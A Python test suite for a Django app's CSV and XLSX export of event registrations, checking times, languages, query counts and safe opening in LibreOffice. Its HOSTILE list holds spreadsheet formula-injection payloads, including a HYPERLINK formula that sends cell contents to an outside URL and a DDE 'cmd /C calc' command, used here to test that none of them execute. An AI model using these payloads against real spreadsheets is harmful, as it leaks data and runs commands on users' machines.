"""The people of an event as a file: every cell is what was stored, nothing runs, and it stays small and fast."""

import io
import shutil
import subprocess
from datetime import UTC, date, datetime, timedelta
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import pytest
from django.utils import translation
from openpyxl import load_workbook

from projects.spreadsheets import read_rows
from registrations.exports import RegistrationResource, clock, people_csv, people_xlsx
from registrations.models import AttendanceRecord, Registration
from tests.factories import create_event, create_project, create_registration, record_attendance

pytestmark = pytest.mark.django_db

HEADER = [
    "Full name",
    "Email",
    "Organisation",
    "Country",
    "Country code",
    "Phone",
    "Taking part",
    "Status",
    "Registered at (Europe/Amsterdam)",
    "Confirmed at (Europe/Amsterdam)",
    "Days attended",
    "Attended on",
    "Language of mails",
]
HOSTILE = [
    '=HYPERLINK("https://example.org/?"&A1,"x")',
    "==1+1",
    "+1+1",
    "-1-1",
    "@SUM(1;1)",
    "|calc",
    "%0A",
    "\t=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "'s-Hertogenbosch",
    "Town;=1+1;",
    "Town\n=1+1",
    "+cmd|' /C calc'!A0",
    "<r><t>x</t></r>",
    "-5",
    "+32 2 555 66 77",
    "„Straße“ in Łódź, Αθήνα, София",
]


def as_file(event, extension: str) -> io.BytesIO:
    if extension == "csv":
        return io.BytesIO(b"".join(people_csv(event)))
    file = io.BytesIO()
    people_xlsx(event, file)
    file.seek(0)
    return file


def create_full_event():
    """Alice attended both days and has a phone; Bob gave his place back; Cem waits."""
    event = create_event()
    at = datetime(2027, 2, 1, 9, 30, 15, 123456, tzinfo=UTC)
    alice = create_registration(
        event,
        "Alice",
        phone="+3225556677",
        mode=Registration.Mode.ONLINE,
        joined_at=at,
        confirmed_at=at + timedelta(days=120),
    )
    record_attendance(alice)
    record_attendance(alice, day=date(2027, 5, 21))
    create_registration(event, "Bob", country="NL", state=Registration.State.CANCELLED, joined_at=at, language="it")
    create_registration(event, "Cem", state=Registration.State.WAITING, joined_at=at, organisation_name="-5")
    create_registration(create_event(event.project), "Dora")
    return event


def test_csv_has_one_row_for_each_registration_of_the_event():
    rows = read_rows(as_file(create_full_event(), "csv"), "csv")

    assert rows.headers == HEADER
    # 9:30 in UTC is 10:30 in Amsterdam in February; 1 June is summer time.
    assert list(rows) == [
        (
            "Alice",
            "alice@example.org",
            "City of Gävle",
            "Sweden",
            "SE",
            "+3225556677",
            "Online",
            "Confirmed",
            "2027-02-01T10:30:15",
            "2027-06-01T11:30:15",
            "2",
            "2027-05-20, 2027-05-21",
            "en",
        ),
        (
            "Bob",
            "bob@example.org",
            "City of Gävle",
            "Netherlands",
            "NL",
            "",
            "In the room",
            "Cancelled by the person",
            "2027-02-01T10:30:15",
            "",
            "0",
            "",
            "it",
        ),
        (
            "Cem",
            "cem@example.org",
            "-5",
            "Sweden",
            "SE",
            "",
            "In the room",
            "On the waiting list",
            "2027-02-01T10:30:15",
            "",
            "0",
            "",
            "en",
        ),
    ]


def test_csv_writes_phone_and_negative_number_as_a_spreadsheet_leaves_them():
    text = as_file(create_full_event(), "csv").getvalue().decode("utf-8-sig")

    assert '"+32 25556677"' in text
    assert '"-5"' in text


def test_xlsx_has_the_same_rows_with_numbers_and_times_as_such():
    event = create_full_event()

    [header, alice, bob, cem] = load_workbook(as_file(event, "xlsx")).active.iter_rows(values_only=True)

    assert list(header) == HEADER
    assert alice[5] == "+3225556677"
    assert alice[8:12] == (
        datetime(2027, 2, 1, 10, 30, 15),
        datetime(2027, 6, 1, 11, 30, 15),
        2,
        "2027-05-20, 2027-05-21",
    )
    assert bob[8:12] == (datetime(2027, 2, 1, 10, 30, 15), None, 0, None)
    assert cem[2] == "-5"
    in_csv = [[cell or None for cell in row] for row in read_rows(as_file(event, "csv"), "csv")]
    texts = [0, 1, 2, 3, 4, 5, 6, 7, 11, 12]
    assert [[row[n] for n in texts] for row in (alice, bob, cem)] == [[row[n] for n in texts] for row in in_csv]


def test_header_and_words_are_in_the_readers_language():
    event = create_full_event()

    with translation.override("nl"):
        # The file is written while it is sent, when another request may have changed the language.
        pieces = people_csv(event)
    rows = read_rows(io.BytesIO(b"".join(pieces)), "csv")

    assert rows[1][3] == "Nederland"


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_rows_read_back_through_the_resource_are_what_is_stored(extension):
    event = create_full_event()
    resource = RegistrationResource(event)

    rows = read_rows(as_file(event, extension), extension).dict
    read = [{name: field.clean(row) for name, field in resource.fields.items()} for row in rows]

    assert read == [
        {
            "name": registration.name,
            "email": registration.email,
            "organisation": registration.organisation_name,
            "country_name": registration.country.code,
            "country": registration.country.code,
            "phone": registration.phone,
            "mode": registration.mode,
            "state": (registration.state, registration.cancelled_by),
            "joined_at": registration.joined_at.replace(microsecond=0),
            "confirmed_at": registration.confirmed_at and registration.confirmed_at.replace(microsecond=0),
            "attended": 2 if registration.name == "Alice" else 0,
            "attended_on": "2027-05-20, 2027-05-21" if registration.name == "Alice" else "",
            "language": registration.language,
        }
        for registration in event.registrations.order_by("pk")
    ]


def test_fast_rows_are_those_of_the_resources_own_export():
    event = create_full_event()
    resource = RegistrationResource(event)

    dataset = resource.export()

    assert dataset.headers == HEADER
    stored = [["" if cell is None else cell for cell in row] for row in dataset]
    assert stored == [list(row) for row in RegistrationResource(event).rows(typed=True)]


def test_a_value_that_the_words_do_not_know_is_explained():
    resource = RegistrationResource(create_event())

    with pytest.raises(ValueError, match=r"^“On the moon” is not one of: In the room, Online\.$"):
        resource.fields["mode"].clean({"Taking part": "On the moon"})


@pytest.mark.parametrize(
    "zone", ["Europe/Amsterdam", "Asia/Kathmandu", "Australia/Lord_Howe", "UTC", "America/St_Johns"]
)
def test_local_times_are_right_at_every_change_of_the_clocks(zone):
    local = clock(ZoneInfo(zone))
    start = datetime(2027, 1, 1, tzinfo=UTC)
    instants = [start + timedelta(minutes=10 * n, seconds=n % 60) for n in range(365 * 24 * 6)]

    assert all(
        local(f"{at:%Y-%m-%d %H:%M:%S}.5+00") == f"{at.astimezone(ZoneInfo(zone)):%Y-%m-%dT%H:%M:%S}" for at in instants
    )


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_hostile_texts_come_back_as_they_were(extension):
    event = create_event()
    for n, text in enumerate(HOSTILE):
        create_registration(event, f"Guest {n}", email=f"guest-{n}@example.org", organisation_name=text)

    rows = read_rows(as_file(event, extension), extension)

    assert rows["Organisation"] == HOSTILE


# --- In LibreOffice ----------------------------------------------------------------------------------------------

OFFICE = shutil.which("soffice")
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE_NS = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def opened_in_libreoffice(file: io.BytesIO, extension: str, folder) -> list[list[tuple[str, str]]]:
    """The cells as LibreOffice has them after opening the file: their type, and what it shows. No cell is a formula."""
    path = folder / f"people.{extension}"
    path.write_bytes(file.getvalue())
    # As the import dialogue has it: UTF-8, and “,”, “;” and tab separate. By itself, the command line takes Latin-1.
    how = ["--infilter=CSV:44/59/9,34,76,1"] if extension == "csv" else []
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    subprocess.run(
        [OFFICE, profile, "--headless", *how, "--convert-to", "fods", "--outdir", str(folder), str(path)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    rows = []
    for row in ElementTree.parse(folder / "people.fods").iter(f"{TABLE}table-row"):  # noqa: S314 - LibreOffice wrote it
        cells = []
        for cell in row.iter(f"{TABLE}table-cell"):
            assert f"{TABLE}formula" not in cell.attrib, ElementTree.tostring(cell)
            repeated = int(cell.get(f"{TABLE}number-columns-repeated", 1))
            kind = cell.get(f"{OFFICE_NS}value-type", "")
            value = (
                cell.get(f"{OFFICE_NS}date-value")
                or cell.get(f"{OFFICE_NS}value")
                or "\n".join(map(text_of, cell.iter(f"{TEXT}p")))
            )
            cells += [(kind, value)] * min(repeated, len(HEADER))
        rows.append(cells[: len(HEADER)])
    return rows


def text_of(paragraph) -> str:
    parts = [paragraph.text or ""]
    for part in paragraph:
        parts += [{f"{TEXT}tab": "\t", f"{TEXT}s": " "}.get(part.tag, "".join(part.itertext())), part.tail or ""]
    return "".join(parts)


@pytest.mark.skipif(not OFFICE, reason="needs LibreOffice (apt install libreoffice-calc)")
def test_libreoffice_shows_the_workbook_as_it_was_stored(tmp_path):
    event = create_full_event()
    for n, text in enumerate(HOSTILE):
        create_registration(event, f"Guest {n}", email=f"guest-{n}@example.org", organisation_name=text)

    [header, alice, bob, _cem, *guests] = opened_in_libreoffice(as_file(event, "xlsx"), "xlsx", tmp_path)

    assert header == [("string", title) for title in HEADER]
    assert alice == [
        ("string", "Alice"),
        ("string", "alice@example.org"),
        ("string", "City of Gävle"),
        ("string", "Sweden"),
        ("string", "SE"),
        ("string", "+3225556677"),
        ("string", "Online"),
        ("string", "Confirmed"),
        ("date", "2027-02-01T10:30:15"),
        ("date", "2027-06-01T11:30:15"),
        ("float", "2"),
        ("string", "2027-05-20, 2027-05-21"),
        ("string", "en"),
    ]
    assert bob[9] == ("", "")
    assert [guest[2] for guest in guests[: len(HOSTILE)]] == [("string", text) for text in HOSTILE]


@pytest.mark.skipif(not OFFICE, reason="needs LibreOffice (apt install libreoffice-calc)")
def test_libreoffice_runs_nothing_in_the_csv_and_keeps_names_phones_and_times(tmp_path):
    event = create_full_event()
    for n, text in enumerate(HOSTILE):
        create_registration(event, f"Guest {n}", email=f"guest-{n}@example.org", organisation_name=text)

    [_header, alice, _bob, cem, *guests] = opened_in_libreoffice(as_file(event, "csv"), "csv", tmp_path)

    assert alice == [
        ("string", "Alice"),
        ("string", "alice@example.org"),
        ("string", "City of Gävle"),
        ("string", "Sweden"),
        ("string", "SE"),
        ("string", "+32 25556677"),
        ("string", "Online"),
        ("string", "Confirmed"),
        ("date", "2027-02-01T10:30:15"),
        ("date", "2027-06-01T11:30:15"),
        ("float", "2"),
        ("string", "2027-05-20, 2027-05-21"),
        ("string", "en"),
    ]
    assert cem[2] == ("float", "-5")
    # The guard, an apostrophe, is all that was added.
    shown = {guest[2][1] for guest in guests}
    assert {'\'=HYPERLINK("https://example.org/?"&A1,"x")', "'s-Hertogenbosch", "+32 2 555 66 77", "-5"} <= shown
    assert "„Straße“ in Łódź, Αθήνα, София" in shown
    assert [guest[0][1] for guest in guests] == [f"Guest {n}" for n in range(len(HOSTILE))]


# --- How much it takes -------------------------------------------------------------------------------------------


def create_people(count: int):
    event = create_event(create_project())
    for n in range(count):
        registration = create_registration(event, f"Person {n}", email=f"person-{n}@example.org")
        record_attendance(registration)
    return event


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
@pytest.mark.parametrize("count", [1, 3])
def test_four_queries_whatever_the_size(extension, count, django_assert_num_queries):
    event = create_people(count)

    # What was asked and who chose what; who attended when, and the people.
    with django_assert_num_queries(4):
        rows = read_rows(as_file(event, extension), extension)

    assert len(rows) == count


def test_csv_comes_in_pieces():
    event = create_people(3)
    person = event.registrations.first()
    Registration.objects.bulk_create(
        Registration(event=event, person_id=person.person_id, name=f"N {n}", email="n@example.org",
                     organisation_name="O", country="NL", state="cancelled", cancelled_by="host",
                     cancelled_at=person.joined_at)
        for n in range(1_200)
    )  # fmt: skip

    pieces = list(people_csv(event))

    assert [piece.count(b"\r\n") for piece in pieces] == [1, 500, 500, 203]


def test_attended_is_what_the_latest_act_says():
    event = create_event()
    alice = create_registration(event, "Alice")
    at = datetime(2027, 5, 20, 8, tzinfo=UTC)
    record_attendance(alice, happened_at=at + timedelta(hours=1), is_present=False)
    record_attendance(alice, happened_at=at)
    record_attendance(alice, happened_at=at, day=date(2027, 5, 21))

    rows = read_rows(as_file(event, "csv"), "csv")

    assert AttendanceRecord.objects.count() == 3
    assert (rows["Days attended"], rows["Attended on"]) == (["1"], ["2027-05-21"])
